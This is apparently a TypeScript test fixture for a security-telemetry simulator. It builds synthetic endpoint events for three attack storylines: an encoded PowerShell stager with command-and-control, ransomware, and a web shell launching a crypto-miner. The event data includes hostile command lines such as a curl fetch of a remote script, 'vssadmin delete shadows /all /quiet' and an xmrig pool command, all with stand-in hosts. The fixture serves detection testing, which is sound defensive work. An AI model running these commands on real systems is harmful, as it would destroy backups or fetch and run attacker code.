import { Scenario, type ScenarioEvent, type ScenarioInput } from '../../scenario.ts';

/**
 * A small hand-made scenario for the simulator's tests: two endpoints, 30 events in
 * three storylines, three threats. Built through the Scenario schema, so a change to
 * the format that breaks it fails here first.
 */

export const WINDOWS_AGENT = {
  id: '1900000000000000001',
  uuid: 'a1b2c3d4e5f60718293a4b5c6d7e8f90',
  computerName: 'WIN-DESK01',
  osType: 'windows',
  osName: 'Windows 11 Enterprise',
  machineType: 'laptop',
  domain: 'CORP',
  ipAddresses: ['10.0.0.21', 'fe80::1'],
  lastLoggedInUserName: 'alice',
} as const;

export const LINUX_AGENT = {
  id: '1900000000000000002',
  uuid: 'f0e1d2c3b4a5968778695a4b3c2d1e0f',
  computerName: 'web01',
  osType: 'linux',
  osName: 'Ubuntu 22.04',
  machineType: 'server',
  ipAddresses: ['10.0.1.5'],
} as const;

export const STORYLINES = {
  powershell: '1A2B3C4D5E6F7081',
  ransomware: '0F0E0D0C0B0A0908',
  webshell: 'ABCDEF0123456789',
} as const;

export const THREAT_IDS = {
  powershell: '1800000000000000101',
  ransomware: '1800000000000000102',
  webshell: '1800000000000000103',
} as const;

const START = Date.UTC(2026, 0, 1, 10, 0, 0);

type EventSpec = [
  agent: typeof WINDOWS_AGENT | typeof LINUX_AGENT,
  storyline: string,
  type: string,
  fields: Record<string, string | number | boolean | null>,
];

const W = WINDOWS_AGENT;
const L = LINUX_AGENT;
const P = STORYLINES.powershell;
const R = STORYLINES.ransomware;
const X = STORYLINES.webshell;

const SPECS: EventSpec[] = [
  [
    W,
    P,
    'Process Creation',
    {
      'src.process.name': 'explorer.exe',
      'tgt.process.name': 'powershell.exe',
      'tgt.process.cmdline': 'powershell -enc SQBFAFgA',
      'src.process.pid': 4120,
      'src.process.isStorylineRoot': true,
    },
  ],
  [
    W,
    P,
    'Process Creation',
    {
      'src.process.name': 'powershell.exe',
      'tgt.process.name': 'cmd.exe',
      'src.process.pid': 5532,
      'src.process.cmdline': 'powershell -enc SQBFAFgA',
    },
  ],
  [
    W,
    P,
    'DNS Resolved',
    {
      'src.process.name': 'powershell.exe',
      'event.dns.request': 'evil.example.com',
      'event.dns.response': '203.0.113.7',
      'src.process.pid': 5532,
    },
  ],
  [
    W,
    P,
    'IP Connect',
    {
      'src.process.name': 'powershell.exe',
      'dst.ip.address': '203.0.113.7',
      'dst.port.number': 443,
      'src.ip.address': '10.0.0.21',
      'src.port.number': 50123,
      'event.network.direction': 'OUTGOING',
      'event.network.connectionStatus': 'SUCCESS',
    },
  ],
  [
    W,
    P,
    'File Creation',
    {
      'src.process.name': 'powershell.exe',
      'tgt.file.path': 'C:\\Users\\alice\\AppData\\Local\\Temp\\stage2.exe',
      'tgt.file.sha1': '1111111111111111111111111111111111111111',
      'tgt.file.size': 73728,
      'tgt.file.isExecutable': true,
    },
  ],
  [
    W,
    P,
    'Process Creation',
    { 'src.process.name': 'cmd.exe', 'tgt.process.name': 'stage2.exe', 'src.process.pid': 6001 },
  ],
  [
    W,
    P,
    'File Creation',
    { 'src.process.name': 'stage2.exe', 'tgt.file.path': 'C:\\ProgramData\\svc.dll' },
  ],
  [
    W,
    P,
    'IP Connect',
    { 'src.process.name': 'stage2.exe', 'dst.ip.address': '198.51.100.9', 'dst.port.number': 8080 },
  ],
  [
    W,
    P,
    'DNS Resolved',
    { 'src.process.name': 'stage2.exe', 'event.dns.request': 'c2.example.net' },
  ],
  [
    W,
    P,
    'Registry Value Create',
    {
      'src.process.name': 'stage2.exe',
      'registry.keyPath': 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      'registry.value': 'svc',
    },
  ],
  [
    W,
    P,
    'Process Creation',
    { 'src.process.name': 'stage2.exe', 'tgt.process.name': 'rundll32.exe' },
  ],
  [
    W,
    P,
    'File Creation',
    { 'src.process.name': 'rundll32.exe', 'tgt.file.path': 'C:\\ProgramData\\notes.txt' },
  ],
  [
    W,
    R,
    'Process Creation',
    {
      'src.process.name': 'outlook.exe',
      'tgt.process.name': 'invoice.exe',
      'src.process.isStorylineRoot': true,
    },
  ],
  [
    W,
    R,
    'Process Creation',
    {
      'src.process.name': 'invoice.exe',
      'tgt.process.name': 'vssadmin.exe',
      'tgt.process.cmdline': 'vssadmin delete shadows /all /quiet',
    },
  ],
  [
    W,
    R,
    'Process Creation',
    { 'src.process.name': 'invoice.exe', 'tgt.process.name': 'wbadmin.exe' },
  ],
  [
    W,
    R,
    'File Modification',
    {
      'src.process.name': 'invoice.exe',
      'tgt.file.path': 'C:\\Users\\alice\\Documents\\q1.xlsx.locked',
    },
  ],
  [
    W,
    R,
    'File Modification',
    {
      'src.process.name': 'invoice.exe',
      'tgt.file.path': 'C:\\Users\\alice\\Documents\\q2.xlsx.locked',
    },
  ],
  [
    W,
    R,
    'Task Register',
    { 'src.process.name': 'invoice.exe', 'task.name': 'Updater', 'task.path': '\\Updater' },
  ],
  [
    W,
    R,
    'Behavioral Indicators',
    {
      'src.process.name': 'invoice.exe',
      'indicator.name': 'ShadowCopyDelete',
      'indicator.category': 'Ransomware',
    },
  ],
  [W, R, 'GET', { 'src.process.name': 'invoice.exe', 'url.address': 'http://pay.example.org/key' }],
  [
    L,
    X,
    'Process Creation',
    { 'src.process.name': 'nginx', 'tgt.process.name': 'sh', 'src.process.isStorylineRoot': true },
  ],
  [
    L,
    X,
    'Process Creation',
    {
      'src.process.name': 'sh',
      'tgt.process.name': 'curl',
      'tgt.process.cmdline': 'curl -s http://203.0.113.50/x.sh',
    },
  ],
  [L, X, 'Process Creation', { 'src.process.name': 'sh', 'tgt.process.name': 'bash' }],
  [L, X, 'Process Creation', { 'src.process.name': 'bash', 'tgt.process.name': 'xmrig' }],
  [
    L,
    X,
    'IP Connect',
    { 'src.process.name': 'curl', 'dst.ip.address': '203.0.113.50', 'dst.port.number': 80 },
  ],
  [
    L,
    X,
    'IP Connect',
    { 'src.process.name': 'xmrig', 'dst.ip.address': '192.0.2.77', 'dst.port.number': 3333 },
  ],
  [
    L,
    X,
    'IP Connect',
    { 'src.process.name': 'xmrig', 'dst.ip.address': '192.0.2.78', 'dst.port.number': 3333 },
  ],
  [L, X, 'DNS Resolved', { 'src.process.name': 'xmrig', 'event.dns.request': 'pool.example.io' }],
  [
    L,
    X,
    'DNS Unresolved',
    { 'src.process.name': 'xmrig', 'event.dns.request': 'backup-pool.example.io' },
  ],
  [
    L,
    X,
    'Login',
    {
      'event.login.userName': 'www-data',
      'event.login.loginIsSuccessful': true,
      'event.login.type': 'NETWORK',
    },
  ],
];

export function eventTimeOf(index: number): string {
  return new Date(START + index * 60_000).toISOString();
}

export function eventIdOf(index: number): string {
  return String(1_700_000_000_000_000_000n + BigInt(index + 1));
}

function buildEvents(): ScenarioEvent[] {
  return SPECS.map(([agent, storyline, type, fields], index) => ({
    'event.id': eventIdOf(index),
    'event.type': type,
    'event.time': eventTimeOf(index),
    'agent.uuid': agent.uuid,
    'src.process.storyline.id': storyline,
    'src.process.uid': `UID${String(index).padStart(4, '0')}`,
    'src.process.user': agent.osType === 'windows' ? 'CORP\\alice' : 'www-data',
    ...fields,
  }));
}

export const SMALL_SCENARIO_INPUT: ScenarioInput = {
  schemaVersion: 1,
  id: 'small-test',
  title: 'Small simulator test scenario',
  source: { kind: 'handwritten' },
  agents: [WINDOWS_AGENT, LINUX_AGENT].map((agent) => ({
    ...agent,
    ipAddresses: [...agent.ipAddresses],
  })),
  events: buildEvents(),
  threats: [
    {
      id: THREAT_IDS.powershell,
      agentId: WINDOWS_AGENT.id,
      eventId: eventIdOf(4),
      storyline: STORYLINES.powershell,
      createdAt: '2026-01-01T10:05:00.000Z',
      threatName: 'stage2.exe',
      classification: 'Malware',
      confidenceLevel: 'malicious',
      filePath: 'C:\\Users\\alice\\AppData\\Local\\Temp\\stage2.exe',
      sha1: '1111111111111111111111111111111111111111',
      commandLine: 'powershell -enc SQBFAFgA',
      originatorProcess: 'powershell.exe',
      processUser: 'CORP\\alice',
      indicators: [
        {
          category: 'Persistence',
          description: 'Adds a Run key.',
          tactics: [
            {
              name: 'Persistence',
              techniques: [
                { name: 'T1547.001', link: 'https://attack.mitre.org/techniques/T1547/001/' },
              ],
            },
          ],
        },
      ],
    },
    {
      id: THREAT_IDS.ransomware,
      agentId: WINDOWS_AGENT.id,
      eventId: eventIdOf(13),
      storyline: STORYLINES.ransomware,
      createdAt: '2026-01-01T10:14:00.000Z',
      threatName: 'invoice.exe',
      classification: 'Ransomware',
      confidenceLevel: 'malicious',
      filePath: 'C:\\Users\\alice\\Downloads\\invoice.exe',
      sha1: '2222222222222222222222222222222222222222',
      commandLine: null,
      originatorProcess: 'outlook.exe',
      processUser: 'CORP\\alice',
      detectionType: 'static',
    },
    {
      id: THREAT_IDS.webshell,
      agentId: LINUX_AGENT.id,
      eventId: eventIdOf(23),
      storyline: STORYLINES.webshell,
      createdAt: '2026-01-01T10:24:00.000Z',
      threatName: 'xmrig',
      classification: 'Miner',
      confidenceLevel: 'suspicious',
      filePath: '/tmp/xmrig',
      sha1: null,
      commandLine: './xmrig -o pool.example.io:3333',
      originatorProcess: 'bash',
      processUser: 'www-data',
      incidentStatus: 'in_progress',
    },
  ],
  groundTruth: {
    verdict: 'true_positive',
    severity: 'high',
    techniques: ['T1059.001', 'T1547.001'],
    affectedEndpoints: ['WIN-DESK01'],
  },
};

/** The scenario after the schema applied its defaults, as loaders receive it. */
export function smallScenario(): Scenario {
  return Scenario.parse(structuredClone(SMALL_SCENARIO_INPUT));
}
